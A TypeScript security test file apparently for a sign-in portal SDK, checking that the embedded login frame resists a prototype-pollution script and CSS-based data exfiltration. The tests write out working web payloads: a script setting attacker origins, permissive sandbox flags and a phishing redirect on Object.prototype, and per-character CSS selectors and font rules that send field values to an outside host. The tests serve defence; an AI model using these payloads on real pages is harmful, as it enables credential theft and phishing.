import { signInScreen } from '../screens/sign-in.ts'
import { seededPassword } from '../support/people.ts'
import { expect, portalOn, signIn } from './support/arena.ts'
import { attack } from './support/attack.ts'
import { hostPage } from './support/host-page.ts'
import { hears } from './support/page-tools.ts'

/** The page that mounts the portal, with something of an attacker's before all else. */
const poisoned = (first: string, ...page: Parameters<typeof hostPage>): string =>
  hostPage(...page).replace('<html>', `<html>${first}`)

attack(
  'SEC-BR-05 SEC-BR-06',
  'options, addresses and rights of a frame are written on the prototype of all objects before the SDK is there',
  'the frame is as ever, and no user is led to the attacker after signing in',
  async ({ arena, openPage }) => {
    const page = await openPage({ thirdPartyCookies: 'blocked' })
    const { stack, stranger, hosts } = arena
    const polluting = {
      allowedRedirectOrigins: [stranger],
      portalUrl: stranger,
      portalOrigin: stranger,
      clientId: 'evil',
      hosted: {},
      src: `${stranger}/frame`,
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
      allow: '*',
      redirectUrl: `${stranger}/phish`,
      url: `${stranger}/phish`,
      targetOrigin: '*',
    }
    const script = `<script>Object.assign(Object.prototype, ${JSON.stringify(polluting)})</script>`
    const options = { routes: { loginUrl: '/polluted' } }
    arena.put('host', '/polluted', { body: poisoned(script, stack, { options }) })
    const query = new URLSearchParams({ redirectUrl: `${stranger}/phish` })
    await page.goto(`${hosts.crossSite}/polluted?${query}`)
    const frame = page.locator('#portal iframe')
    await expect(frame).not.toHaveAttribute('sandbox', /top-navigation/)
    await expect(frame).not.toHaveAttribute('allow', /\*/)
    expect(await frame.getAttribute('src')).toContain(`${stack.portalUrl}/embed/${stack.clientId}?`)
    await signIn(page, 'member@acme.test', seededPassword)
    await page.waitForURL((url) => url.pathname !== '/polluted')
    expect(page.url()).toBe(`${hosts.crossSite}/`)
    expect(arena.stolen().filter((path) => /^\/(phish|frame|embed)/.test(path))).toEqual([])
  },
)

const characters = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-']

attack(
  'SEC-PO-08',
  'style sheets of the page ask for an address for every letter that a field begins with, or that is shown',
  'they hear of the page’s own fields, and of none in the frame',
  async ({ arena, openPage }) => {
    const page = await openPage()
    const { stack, stranger, hosts } = arena
    const rules = characters.map(
      (letter) => `
        @font-face { font-family: spy; src: url("${stranger}/font?${letter}"); unicode-range: U+${letter.codePointAt(0)?.toString(16)} }
        input[value^="${letter}"], iframe input[value^="${letter}"] { background: url("${stranger}/field?${letter}") }`,
    )
    const style = `<style>${rules.join('')} input { font-family: spy }</style>`
    const short = `<style>input { background: url("${stranger}/field?text") }</style>`
    const options = { view: 'login', localizations: { en: { auth: { email: short, password: short } } } }
    arena.put('host', '/styled', { body: `${poisoned(style, stack, { options })}<input value="zoo">` })
    await page.goto(`${hosts.crossSite}/styled`)
    const leaked = () => arena.stolen().filter((path) => /^\/(field|font)/.test(path))
    await expect.poll(leaked).toContain('/field?z')
    await expect.poll(leaked).toContain('/font?o')
    await hears(page, /^ready/m)
    const box = signInScreen(portalOn(page))
    await portalOn(page).getByRole('textbox').first().fill('member@acme.test')
    await box.continue()
    const password = portalOn(page).locator('input[type=password]')
    await password.pressSequentially(seededPassword)
    await password.press('Enter')
    await hears(page, /"authenticated"/)
    expect(leaked().toSorted()).toEqual(['/field?z', '/font?o', '/font?z'])
  },
)
